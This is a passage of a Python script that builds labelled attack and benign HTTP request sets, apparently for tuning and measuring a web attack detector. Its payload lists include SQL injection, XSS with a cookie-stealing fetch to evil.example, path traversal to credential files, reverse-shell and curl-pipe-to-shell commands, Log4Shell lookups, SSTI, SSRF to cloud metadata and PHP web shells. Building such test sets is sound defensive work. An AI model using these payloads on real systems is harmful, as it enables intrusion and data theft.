        "x=1;y=2", "A+ grade", "5 < 6", "(optional)", "yes/no", "don't", "$100", "node@18", "user_name-01", "#hashtag",
    ],
}


def benign():
    out = []

    def add(s, r, note):
        r["set"] = s
        r["note"] = note
        out.append(r)

    for s in "ab":
        # Prose in every place a user types text.
        for i, t in enumerate(PROSE[s]):
            h = base_headers()
            add(s, req("GET", f"/search?q={q(t)}&page=1", h), "prose query")
            hj = dict(h, **{"Content-Type": "application/json"})
            add(s, req("POST", "/api/v1/comments", hj, json.dumps({"postId": 42, "author": {"name": "Renée O'Connor"}, "text": t})), "prose json")
            hf = dict(h, **{"Content-Type": "application/x-www-form-urlencoded"})
            add(s, req("POST", "/contact", hf, f"name={q('Seán O' + chr(39) + 'Brien')}&email=sean%40example.ie&message={q(t).replace('%20', '+')}"), "prose form")
            if i % 3 == 0:
                hm = dict(h, **{"Content-Type": "multipart/form-data; boundary=XbOuNdArY"})
                body = f"--XbOuNdArY\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\n{t}\r\n--XbOuNdArY\r\nContent-Disposition: form-data; name=\"photo\"; filename=\"IMG_2041.JPG\"\r\nContent-Type: image/jpeg\r\n\r\n\xff\xd8\xff\xe0JFIF<?php ;|&$(\r\n--XbOuNdArY--\r\n"
                add(s, req("POST", "/gallery/upload", hm, body), "prose multipart")
        for t in MARKDOWN[s] + CODE[s]:
            hj = dict(base_headers(), **{"Content-Type": "application/json"})
            add(s, req("PUT", "/api/v1/posts/17", hj, json.dumps({"title": "Notes", "body": t, "draft": False})), "markdown/code json")
            add(s, req("PATCH", "/api/v1/snippets/3", hj, json.dumps({"content": t, "language": "text"})), "markdown/code json")
        for g in GRAPHQL[s]:
            add(s, req("GET", "/graphql?query=" + q(g), base_headers()), "graphql query string")
            hj = dict(base_headers(), **{"Content-Type": "application/json"})
            add(s, req("POST", "/graphql", hj, json.dumps({"query": g, "variables": {"first": 10, "q": "O'Reilly books"}})), "graphql json")
        for i, v in enumerate(VALUES[s]):
            add(s, req("GET", f"/api/search?{PARAMS[i % len(PARAMS)]}={q(v)}&ts=1715940000", base_headers()), "value query")
            hj = dict(base_headers(), **{"Content-Type": "application/json"})
            add(s, req("POST", "/api/v2/events", hj, json.dumps({"type": "click", "value": v, "meta": {"ref": "https://www.example.com/"}})), "value json")
        # Methods APIs use.
        for m in ["PUT", "PATCH", "DELETE", "OPTIONS", "HEAD"]:
            h = dict(base_headers(), **{"Content-Type": "application/json", "Authorization": "Bearer " + VALUES["a"][3]})
            add(s, req(m, f"/api/v1/users/{rnd.randint(1, 9999)}", h, json.dumps({"active": True}) if m in ("PUT", "PATCH") else None), "api method")
        # XML bodies.
        xml = {
            "a": ['<?xml version="1.0"?><order><id>17</id><customer name="Renée O\'Connor">VIP</customer><note>Leave at the door -- thanks!</note></order>',
                  '<?xml version="1.0" encoding="UTF-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetPrice><Item>Apples</Item></GetPrice></soap:Body></soap:Envelope>'],
            "b": ['<?xml version="1.0"?><!DOCTYPE note [<!ENTITY writer "Donald Duck.">]><note><to>Tove</to><from>&writer;</from><body>Don\'t forget me this weekend!</body></note>',
                  '<?xml version="1.0"?><rss version="2.0"><channel><title>News</title><item><title>Select committee meets</title><link>https://news.example.com/a?id=3&amp;s=1</link></item></channel></rss>'],
        }
        for x in xml[s]:
            h = dict(base_headers(), **{"Content-Type": "application/xml"})
            add(s, req("POST", "/api/orders", h, x), "xml")
        # Ordinary page views with realistic headers and cookies.
        paths = {
            "a": ["/", "/products/red-shoes-42", "/blog/2024/05/hello-world", "/static/js/app.4f3a2b.js", "/images/logo@2x.png",
                  "/category/men/shoes?sort=price_asc&page=2", "/account/orders/1234", "/api/v1/users/me", "/cart", "/checkout/step-2",
                  "/search?q=red+running+shoes&color=red&size=42", "/docs/getting-started#install", "/favicon.ico", "/robots.txt",
                  "/sitemap.xml", "/fr/produits/chaussures", "/zh-cn/产品", "/api/v1/items?ids=1,2,3&fields=name,price"],
            "b": ["/about-us", "/products?category=kids&min_price=10&max_price=50", "/en-gb/help/returns", "/assets/fonts/inter.woff2",
                  "/u/jane_doe/profile", "/api/v2/orders?status=shipped&since=2024-01-01", "/news/2024/05/17/markets-today",
                  "/search?q=%E4%BD%A0%E5%A5%BD", "/wiki/Renée_O'Connor", "/events/2024-06-01/tickets?qty=2",
                  "/de/suche?q=K%C3%A4se", "/ar/%D8%A7%D9%84%D8%B1%D8%A6%D9%8A%D8%B3%D9%8A%D8%A9", "/.well-known/openid-configuration",
                  "/oauth/callback?code=4/0AX4XfWh&state=af0ifjsldkj&scope=email%20profile", "/api/v1/files/report%202024.pdf",
                  "/login?next=%2Faccount%2Forders%3Fpage%3D2", "/redirect?url=https%3A%2F%2Fwww.example.com%2Fsale", "/etc-fashion/summer-collection"],
        }
        for p in paths[s]:
            for ua in rnd.sample(UA_BROWSER, 2):
                h = base_headers(ua)
                h["Cookie"] = "session=s%3Aj1k2l3.abcDEF; _ga=GA1.2.1234567890.1715940000; consent={\"ads\":false,\"stats\":true}; cart=%5B%7B%22id%22%3A3%7D%5D"
                h["Referer"] = "https://shop.example.com/search?q=shoes&page=1"
                add(s, req("GET", p, h), "page view")
    return out


def write(path, rows):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w", encoding="utf-8") as f:
        for r in rows:
            f.write(json.dumps(r, ensure_ascii=False) + "\n")


def main():
    by_group = {}
    for r in attacks():
        by_group.setdefault(r["group"], []).append(r)
    for g, rows in sorted(by_group.items()):
        write(os.path.join(HERE, "attacks", g + ".jsonl"), rows)
    b = benign()
    write(os.path.join(HERE, "benign", "generated.jsonl"), b)
    att_c, ben_c = heldout_c()
    write(os.path.join(HERE, "attacks", "heldout-c.jsonl"), att_c)
    write(os.path.join(HERE, "benign", "heldout-c.jsonl"), ben_c)
    att_e, ben_e = set_e()
    write(os.path.join(HERE, "attacks", "heldout-e.jsonl"), att_e)
    write(os.path.join(HERE, "benign", "heldout-e.jsonl"), ben_e)
    att_d, ben_d = set_d()
    write(os.path.join(HERE, "attacks", "regression-d.jsonl"), att_d)
    write(os.path.join(HERE, "benign", "regression-d.jsonl"), ben_d)
    print("attacks:", sum(len(v) for v in by_group.values()) + len(att_c) + len(att_d) + len(att_e), "benign:", len(b) + len(ben_c) + len(ben_d) + len(ben_e))




# ---------------------------------------------------------------------------
# Set "c": written after the rules were tuned on sets a and b, and run once to
# measure; kept separate (heldout-c.jsonl) so later tuning can be told apart.
HELDOUT_C = {
    "sqli": ["admin' or 1=1#", "1 or 1=1", "' or ''='", "1' and substring(@@version,1,1)='5",
             "1 and ascii(substr((select database()),1,1))>64", "' having 1=1--", "%27%20or%20true--",
             "-1' union select 1,group_concat(schema_name) from information_schema.schemata--+",
             "' AND 1=CONVERT(int,(SELECT @@version))--", "1 AND 1=2 UNION SELECT NULL--",
             "'+(select*from(select(sleep(20)))a)+'", "admin'/*", "1' or '1'='1' /*", "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))"],
    "xss": ["<svg onload=alert(1)>", "<img src=x:x onerror=alert(1)//", "<scr<script>ipt>alert(1)</script>",
            "<iframe srcdoc=\"<script>alert(1)</script>\">", "<a href=javas&#99;ript:alert(1)>x</a>", "<x onpointerover=alert(1)>hover",
            "\" autofocus onfocus=\"alert(1)", "<img \"\"\"><script>alert(\"XSS\")</script>\">", "<style>@import'javascript:alert(1)';</style>",
            "<body background=\"javascript:alert(1)\">", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a></svg>",
            "<img src=1 oNeRrOr=top['al'+'ert'](1)>"],
    "lfi": ["/etc/passwd", "../../../../../etc/shadow%00", "..%5c..%5c..%5cwindows%5cwin.ini", "%252e%252e%252fetc%252fpasswd",
            "....//....//etc/hosts", "/proc/version", "..%2F..%2F..%2F..%2Fvar%2Fwww%2Fhtml%2Fconfig.php", "/var/www/../../etc/passwd",
            "..\\\\..\\\\..\\\\boot.ini", "../../../../../../../etc/mysql/my.cnf"],
    "rce": [";id;", "|cat /etc/passwd", "$(cat /etc/passwd)", "; /bin/cat /etc/passwd", "a|ping -n 5 127.0.0.1",
            ";echo${IFS}pwned", "127.0.0.1\ncat /etc/passwd", "&& nslookup evil.example", "|| uname -a", "; perl -e 'print 1'",
            "x`whoami`", ";ls${IFS}-la", "() { ignored; }; echo; /usr/bin/id", "|timeout /t 5"],
    "php": ["php://filter/resource=/etc/passwd", "<?php phpinfo(); ?>", "data:text/plain,<?php system('id');?>",
            "O:27:\"Monolog\\Handler\\SyslogUdpHandler\":1:{s:9:\"\\0*\\0socket\";N;}", "system('whoami');", "expect://ls",
            "<?=system($_GET[0]);", "php://filter/convert.iconv.utf-8.utf-16/resource=index.php"],
    "java": ["${jndi:ldap://127.0.0.1#evil.example:1389/a}", "${${::-j}ndi:rmi://evil.example/y}",
             "${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/x}", "${j${k8s:k5:-ND}i:ldap://evil.example/x}",
             "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/x}", "rO0ABXQABHRlc3Q=",
             "${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('id').getInputStream(),\"utf-8\"))}",
             "#{T(java.lang.Runtime).getRuntime().exec('calc')}"],
    "nodejs": ["require(\"child_process\").execSync(\"whoami\")", "process.mainModule.require('fs').readFileSync('/etc/passwd')",
               "eval(\"require('child_process').exec('ls')\")", "global.process.binding('spawn_sync')"],
    "ssti": ["{{7*'7'}}", "{{ ''.__class__ }}", "${{7*7}}", "{{constructor.constructor('alert(1)')()}}", "*{7*7}", "@(7*7)",
             "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}", "<%= File.open('/etc/passwd').read %>",
             "${T(java.lang.Runtime).getRuntime().exec('id')}", "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}"],
    "ssrf": ["http://127.0.0.1/", "http://localhost:6379/", "http://169.254.169.254/metadata/v1/", "http://[fd00:ec2::254]/latest/meta-data/",
             "http://0/", "http://0.0.0.0:8080/", "http://017700000001/", "http://instance-data/latest/", "gopher://localhost:25/_HELO%20x",
             "http://metadata/computeMetadata/v1/", "http://127.1/", "//169.254.169.254/"],
}


def heldout_c():
    att = []
    for group, payloads in HELDOUT_C.items():
        for p in payloads:
            kinds = ["query", "query_min", "form", "json", "double", "multipart"] if group == "ssrf" else None
            for r in variants(p, 3, kinds):
                r["group"], r["set"] = group, "c"
                att.append(r)

    def add(group, r):
        r["group"], r["set"] = group, "c"
        att.append(r)

    for ct, x in [
        ("application/xml", '<?xml version="1.0"?><!DOCTYPE test [ <!ENTITY xxe SYSTEM "file:///etc/hostname"> ]><test>&xxe;</test>'),
        ("text/xml", '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % dtd SYSTEM "http://evil.example/evil.dtd"> %dtd; %send;]><r/>'),
        ("application/xml", '<!DOCTYPE x SYSTEM "file:///dev/random"><x/>'),
    ]:
        add("xxe", req("POST", "/xmlrpc", dict(base_headers(), **{"Content-Type": ct}), x, note="xml body"))
    svg = '<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>'
    add("xxe", req("POST", "/avatar", dict(base_headers(), **{"Content-Type": "multipart/form-data; boundary=b0"}),
                   f"--b0\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.svg\"\r\nContent-Type: image/svg+xml\r\n\r\n{svg}\r\n--b0--\r\n", note="svg upload"))
    for kind, v in [("json", {"username": {"$ne": "x"}, "password": {"$ne": "x"}}), ("query", "user[$regex]=.*"),
                    ("json", {"$where": "1==1"}), ("query", "password[%24ne]=1"), ("json", {"age": {"$gt": 0}, "$or": [{}]})]:
        h = base_headers()
        if kind == "json":
            h["Content-Type"] = "application/json"
            add("nosqli", req("POST", "/api/find", h, json.dumps(v), note=kind))
        else:
            add("nosqli", req("GET", "/api/find?" + v, h, note=kind))
    for ua in ["Mozilla/5.0 (compatible; Nikto/2.5.0)", "sqlmap/1.8.2#stable", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
               "WhatWeb/0.5.5", "Arachni/v1.5.1", "ZmEu", "Mozilla/5.0 zgrab/0.x", "OpenVAS-VT"]:
        add("scanners", req("GET", "/", base_headers(ua), note="user agent"))
    for p in ["/.git/index", "/.svn/entries", "/phpMyAdmin/index.php", "/wp-admin/install.php", "/.htpasswd", "/config/.env",
              "/actuator/heapdump", "/_profiler/phpinfo", "/solr/admin/cores", "/cgi-bin/test-cgi"]:
        add("scanners", req("GET", p, base_headers(UA_BROWSER[6]), note="probe path"))
    for t in ["/?PHPSESSID=abc123def456", "/login;jsessionid=XYZ0987", "/cart?JSESSIONID=0A1B2C3D",
              "/?q=" + q("<meta http-equiv=Set-Cookie content=\"PHPSESSID=evil\">")]:
        add("session_fixation", req("GET", t, base_headers(), note="session"))
    add("protocol", req("GET", "/", [["Host", "a"], ["Host", "a"]], note="duplicate host"))
    add("protocol", req("GET", "/img?name=logo.png%00.php", base_headers(), note="nul"))
    add("protocol", req("GET", "/?" + "&".join(f"p{i}=x" for i in range(2000)), base_headers(), note="too many args"))

    ben = []

    def b(r, note):
        r["set"], r["note"] = "c", note
        ben.append(r)

    searches = ["how to select a good laptop", "union square hotels", "drop shipping business ideas", "best pizza near me",
                "1=1 proof by induction", "what is a sql join", "where is the /etc/hosts file on mac", "script writing course",
                "alert: storm warning", "cat food -- grain free", "O'Reilly Media books", "C:\\Users\\Public documents",
                "sleep 8 hours a night", "echo dot 5th gen", "shell oil price", "python vs. java", "<3 quotes for her",
                "wget vs curl", "SELECT Comfort mattress", "order by price low to high", "iPhone 15 (128 GB) - black",
                "Cafe & bar; open late", "50/50 raffle rules", "2 > 1", "rm 101 schedule", "\"exact phrase\" search",
                "l'Oréal shampoo", "naïve café résumé", "東京 ホテル", "서울 맛집", "Санкт-Петербург погода", "القاهرة مطاعم"]
    for s in searches:
        b(req("GET", "/search?q=" + q(s).replace("%20", "+"), base_headers()), "search")
        b(req("GET", "/api/suggest?term=" + q(s) + "&limit=8", dict(base_headers(), Accept="application/json")), "suggest")
    docs = [
        {"title": "Release notes 4.2", "body": "<p>We fixed a bug where <code>SELECT</code> queries timed out.</p><ul><li>Faster search</li><li>New <a href=\"https://example.com/docs\">docs</a></li></ul>"},
        {"name": "Seán Ó Briain", "company": "Ó Briain & Sons Ltd.", "address": {"line1": "12 O'Connell St.", "city": "Dublin", "zip": "D01 F5P2"}},
        {"query": "query($id: ID!) { node(id: $id) { ... on User { name avatarUrl(size: 64) } } }", "variables": {"id": "VXNlcjox"}},
        {"events": [{"type": "page_view", "url": "https://shop.example.com/cart?coupon=SAVE10&utm_source=mail", "ts": 1715940000}] * 3},
        {"comment": "Tried `docker ps -a` and `kubectl get pods`; both work. Thanks!", "rating": 5},
        {"recipe": "Mix flour & sugar; bake at 180°C for 25-30 min. Serve with cream (optional).", "tags": ["dessert", "easy"]},
        {"sql_tip": "Use WHERE id IN (1, 2, 3) instead of OR chains", "author": "dba_team"},
        {"bio": "Full-stack dev. JS/TS, Rust & Go. Opinions my own; retweets != endorsements.", "website": "https://dev.example.io"},
        {"message": "Hi! Your order #A-1029 ships tomorrow. Questions? Reply to this email or call 0800-123-456.", "lang": "en"},
        {"translation": {"de": "Grüße aus Köln", "fr": "À tout à l'heure", "es": "¿Qué tal? ¡Muy bien!", "zh": "谢谢你的帮助", "ar": "شكرا جزيلا"}},
        {"filters": {"price": {"min": 10, "max": 100}, "brand": ["Nike", "Adidas"], "sort": "price_desc"}},
        {"password": "P@ssw0rd!#$%^&*()", "confirm": "P@ssw0rd!#$%^&*()"},
        {"note": "Path is C:\\Program Files\\App\\config.ini -- edit with admin rights"},
        {"jwt": "eyJhbGciOiJSUzI1NiJ9.eyJpc3MiOiJodHRwczovL2F1dGguZXhhbXBsZS5jb20iLCJzdWIiOiJ1c2VyLTEyMyJ9.c2lnbmF0dXJl", "scope": "read:orders write:orders"},
        {"html": "<h2>Welcome</h2><p>Read our <em>terms</em> &amp; <strong>privacy</strong> policy.</p>"},
        {"csv": "id,name,price\n1,Widget,9.99\n2,\"Gadget, large\",19.99\n"},
        {"regex": "^[a-z0-9._%+-]+@[a-z0-9.-]+\\.[a-z]{2,}$", "desc": "email validation"},
        {"cron": "*/5 * * * *", "command_name": "refresh-cache"},
        {"emoji": "Great job 👍🎉🔥", "reactions": {"👍": 12, "❤️": 3}},
        {"math": "if a > b and b > c then a > c; x = (y + 2) * 3", "level": "easy"},
    ]
    for d in docs:
        b(req("POST", "/api/v3/items", dict(base_headers(), **{"Content-Type": "application/json; charset=utf-8"}), json.dumps(d, ensure_ascii=False)), "json doc")
    forms = [
        "username=jane.doe&password=Summer2024%21&remember=on",
        "first_name=Ren%C3%A9e&last_name=O%27Connor&phone=%2B33+6+12+34+56+78&country=FR",
        "q=select+a+plan&plan=pro&billing=annual&coupon=",
        "comment=I+love+it+--+5+stars%21+Would+recommend+to+anyone+%3A%29&product_id=88",
        "search%5Bterm%5D=red+shoes&search%5Bsize%5D%5B%5D=42&search%5Bsize%5D%5B%5D=43",
        "redirect_uri=https%3A%2F%2Fapp.example.com%2Fcallback&client_id=abc123&response_type=code&state=xyz",
        "message=Meet+me+at+the+union+station%3B+bring+the+tickets+%26+snacks",
        "address=221B+Baker+St.%2C+London+NW1+6XE&notes=Ring+twice%2C+then+knock",
    ]
    for f in forms:
        b(req("POST", "/form", dict(base_headers(), **{"Content-Type": "application/x-www-form-urlencoded"}), f), "form")
    for t in ["/api/v1/users/550e8400-e29b-41d4-a716-446655440000/avatar", "/files/Report%20Q1%20(final).pdf", "/blog/why-we-moved-to-rust",
              "/t/select-the-right-database/1234", "/wiki/SQL_injection", "/wiki/Cross-site_scripting", "/docs/etc/configuration",
              "/products/union-jack-t-shirt", "/shop/cat/toys?page=3", "/api/v1/search?q=drop+table+tennis&fields=id,name",
              "/s/ref=nb_sb_noss?url=search-alias%3Daps&field-keywords=usb+cable", "/maps/@48.8584,2.2945,17z",
              "/api/v1/reports?from=2024-01-01&to=2024-03-31&format=csv", "/download?file=invoice-2024-05.pdf",
              "/image.php?w=300&h=200&src=/uploads/2024/05/photo.jpg", "/go?to=https%3A%2F%2Fpartner.example.net%2Fdeal%3Fid%3D7"]:
        b(req("GET", t, base_headers()), "path")
    for m, t, body in [("DELETE", "/api/v1/carts/77/items/3", None), ("PUT", "/api/v1/profile", json.dumps({"displayName": "Zoë O'Neil", "locale": "fr-CA"})),
                       ("PATCH", "/api/v1/tasks/9", json.dumps({"status": "done", "note": "closed -- dup of #8"}))]:
        b(req(m, t, dict(base_headers(), **{"Content-Type": "application/json"}), body), "api method")
    b(req("POST", "/soap", dict(base_headers(), **{"Content-Type": "text/xml; charset=utf-8", "SOAPAction": "\"urn:GetQuote\""}),
          '<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetQuote><symbol>T</symbol><note>AT&amp;T -- select shares</note></GetQuote></soap:Body></soap:Envelope>'), "xml")
    b(req("POST", "/api/logs", dict(base_headers(), **{"Content-Type": "text/plain"}), "2024-05-17 10:00:01 INFO user=42 action=login ip=203.0.113.7 ua=\"Mozilla/5.0\""), "text body")
    b(req("POST", "/upload", dict(base_headers(), **{"Content-Type": "application/octet-stream"}), "\u0000\u0001binary<script>;|&"), "binary")
    return att, ben


# ---------------------------------------------------------------------------
# Set "d": payload-list style attacks and tricky benign strings written after set c
# to probe for gaps (then fixed: glob paths, `jav&#x09;ascript:`, Smarty, `@{}`,
# SQL quoted in prose ...). Tuned on, so it is a regression set, not a held-out one.
D_ATTACKS = [
    "' or '",
    "' or 1=1--",
    "' or 1=1#",
    "' or 1=1/*",
    "') or ('1'='1",
    "admin' #",
    "admin'/*",
    "' OR 'a'='a",
    "1' ORDER BY 1--+",
    "1' ORDER BY 10--+",
    "' UNION SELECT NULL--",
    "' UNION SELECT NULL,NULL--",
    "1 AND 1=1",
    "1 AND 1=2",
    "1' AND '1'='1",
    "\" OR \"\" = \"",
    "' waitfor delay '0:0:5'--",
    "1;WAITFOR DELAY '0:0:5'--",
    "1 AND SLEEP(5)",
    "' AND BENCHMARK(5000000,MD5(1))--",
    "' or sleep(5)#",
    "AND 1=CAST((SELECT version()) AS int)",
    "' AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71,(SELECT (ELT(1=1,1))),0x71))s), 8446744073709551610, 8446744073709551610)))--",
    "1' AND ROW(1,1)>(SELECT COUNT(*),CONCAT(CHAR(95),CHAR(33),FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.TABLES GROUP BY x)--",
    "-1' UNION SELECT 1,2,3--",
    "%' AND 1=0 UNION SELECT username, password FROM users WHERE '%'='",
    "'; DROP TABLE users; --",
    "1'; SELECT * FROM users WHERE 't'='t",
    "' OR EXISTS(SELECT * FROM users)--",
    "<svg/onload=alert`1`>",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "\"><img src=x onerror=prompt(1)>",
    "<iframe src=javascript:alert(1)>",
    "<body/onload=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<keygen onfocus=alert(1) autofocus>",
    "<video src=x onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "javascript:alert(document.domain)",
    "<script src=//evil.example/x.js></script>",
    "<script>fetch('//evil.example?c='+document.cookie)</script>",
    "'\"><script>alert(String.fromCharCode(88,83,83))</script>",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<div onmouseover=\"alert(1)\">hover</div>",
    "<object data=\"javascript:alert(1)\">",
    "<isindex action=javascript:alert(1) type=image>",
    "<svg onload=eval(atob('YWxlcnQoMSk='))>",
    "</script><script>alert(1)</script>",
    "';alert(1)//",
    "\\\";alert(1);//",
    "<img src=\"x\" onerror=\"&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;\">",
    "../../../etc/passwd",
    "../../../../../../etc/passwd%00",
    "..%2F..%2F..%2Fetc%2Fpasswd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%252f..%252f..%252fetc%252fpasswd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/passwd",
    "/etc/shadow",
    "/proc/self/environ",
    "/var/log/apache2/access.log",
    "C:\\boot.ini",
    "c:\\windows\\system32\\config\\sam",
    "....//....//....//etc/passwd",
    "..%c0%af..%c0%af..%c0%afetc/passwd",
    "/..%5c..%5c..%5cwindows/win.ini",
    "file:///etc/passwd",
    ";id",
    "|id",
    "`id`",
    "$(id)",
    "&id",
    "&&id",
    "||id",
    "%0aid",
    ";sleep 5",
    "|sleep 5",
    ";ping -c 5 127.0.0.1",
    "& ping -n 5 127.0.0.1",
    "| whoami",
    "; whoami",
    ";uname -a",
    "| dir",
    "& dir c:\\",
    ";cat /etc/passwd",
    "$(cat /etc/passwd)",
    "`cat /etc/passwd`",
    ";nc -e /bin/sh 10.0.0.1 4444",
    ";curl http://evil.example/shell.sh|sh",
    ";wget http://evil.example/x -O /tmp/x",
    "| type c:\\windows\\win.ini",
    "';sleep 5;'",
    "\";id;\"",
    "a;id",
    "127.0.0.1|id",
    "1;/bin/ls",
    ";/usr/bin/id",
    "{{7*7}}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "${{7*7}}",
    "{{config}}",
    "{{self}}",
    "{{''.__class__.__mro__[2].__subclasses__()}}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{% debug %}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "*{T(java.lang.Runtime).getRuntime().exec('id')}",
    "{{request.__class__}}",
    "${jndi:ldap://evil.example/a}",
    "${jndi:rmi://evil.example/a}",
    "${jndi:dns://evil.example/a}",
    "${${lower:jndi}:${lower:ldap}://evil.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://evil.example/a}",
    "${jndi:ldap://${env:USER}.evil.example/a}",
    "${${env:ENV_NAME:-j}ndi${env:ENV_NAME:-:}${env:ENV_NAME:-l}dap${env:ENV_NAME:-:}//evil.example/a}",
    "http://169.254.169.254/",
    "http://169.254.169.254/latest/meta-data/",
    "http://metadata.google.internal/computeMetadata/v1/",
    "http://127.0.0.1:22",
    "http://localhost:8080/admin",
    "http://[::1]/",
    "http://0.0.0.0/",
    "http://2130706433/",
    "http://0177.0.0.1/",
    "http://0x7f000001/",
    "gopher://127.0.0.1:6379/_INFO",
    "file:///c:/windows/win.ini",
    "dict://127.0.0.1:11211/",
    "http://169.254.169.254.xip.io/",
    "php://filter/convert.base64-encode/resource=index.php",
    "php://input",
    "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==",
    "expect://id",
    "<?php system('id'); ?>",
    "<?php echo shell_exec($_GET['c']); ?>",
    "O:8:\"stdClass\":0:{}",
    "phar://./uploads/x.jpg",
    "__proto__[admin]=1",
    "{\"__proto__\":{\"admin\":true}}",
    "constructor[prototype][admin]=1"
]

D_REQUESTS = [
    {
        "method": "GET",
        "target": "/?q=%EF%BC%9Cscript%EF%BC%9Ealert%281%29%EF%BC%9C%2Fscript%EF%BC%9E",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0"
        }
    },
    {
        "method": "GET",
        "target": "/?q=%u003Cscript%u003Ealert(1)%u003C/script%u003E",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0"
        }
    },
    {
        "method": "GET",
        "target": "/?q=%26%23x3C%3Bscript%26%23x3E%3Balert%281%29%26%23x3C%3B%2Fscript%26%23x3E%3B",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0"
        }
    },
    {
        "method": "GET",
        "target": "/?q=%26%2360script%26%2362alert%281%29%26%2360%2Fscript%26%2362",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0"
        }
    },
    {
        "method": "POST",
        "target": "/api",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0",
            "Content-Type": "application/json"
        },
        "body": "{\"q\":\"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e\"}"
    },
    {
        "method": "POST",
        "target": "/api",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0",
            "Content-Type": "application/json"
        },
        "body": "{\"q\":\"1\\u0027 OR \\u00271\\u0027=\\u00271\"}"
    },
    {
        "method": "GET",
        "target": "/?id=1%bf%27%20or%201=1--",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0"
        }
    },
    {
        "method": "GET",
        "target": "/?id=1%27%20oR%201%3D1--%20-",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0"
        }
    },
    {
        "method": "GET",
        "target": "/?id=1%27%2F%2A%2A%2FOR%2F%2A%2A%2F1%3D1%23",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0"
        }
    },
    {
        "method": "GET",
        "target": "/?id=1%2500%27%20or%201%3D1--",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0"
        }
    },
    {
        "method": "GET",
        "target": "/?id=1%2527%2520or%25201%253D1--",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0"
        }
    },
    {
        "method": "GET",
        "target": "/?file=..%25u2216..%25u2216etc%25u2216passwd",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0"
        }
    },
    {
        "method": "GET",
        "target": "/?file=%25c0%25ae%25c0%25ae%2F%25c0%25ae%25c0%25ae%2Fetc%2Fpasswd",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0"
        }
    },
    {
        "method": "GET",
        "target": "/?file=...%2F.%2F...%2F.%2F...%2F.%2Fetc%2Fpasswd",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0"
        }
    },
    {
        "method": "GET",
        "target": "/static/..%2f..%2f..%2fetc/passwd",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0"
        }
    },
    {
        "method": "GET",
        "target": "/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0"
        }
    },
    {
        "method": "GET",
        "target": "/?cmd=%3Bca%5Ct%20%2Fet%5Cc%2Fpa%5Csswd",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0"
        }
    },
    {
        "method": "GET",
        "target": "/?cmd=%24%28printf%20%27id%27%29",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0"
        }
    },
    {
        "method": "GET",
        "target": "/?cmd=%3B%2F%3F%3F%3F%2F%3F%3Ft%20%2F%3F%3F%3F%2Fp%3F%3Fs%3F%3F",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0"
        }
    },
    {
        "method": "GET",
        "target": "/?cmd=%7C%7C%20c%27%27at%20%2Fetc%2Fpasswd",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0"
        }
    },
    {
        "method": "GET",
        "target": "/",
        "headers": {
            "Host": "h",
            "User-Agent": "() { :;}; /bin/bash -c \"wget http://evil.example/x\""
        }
    },
    {
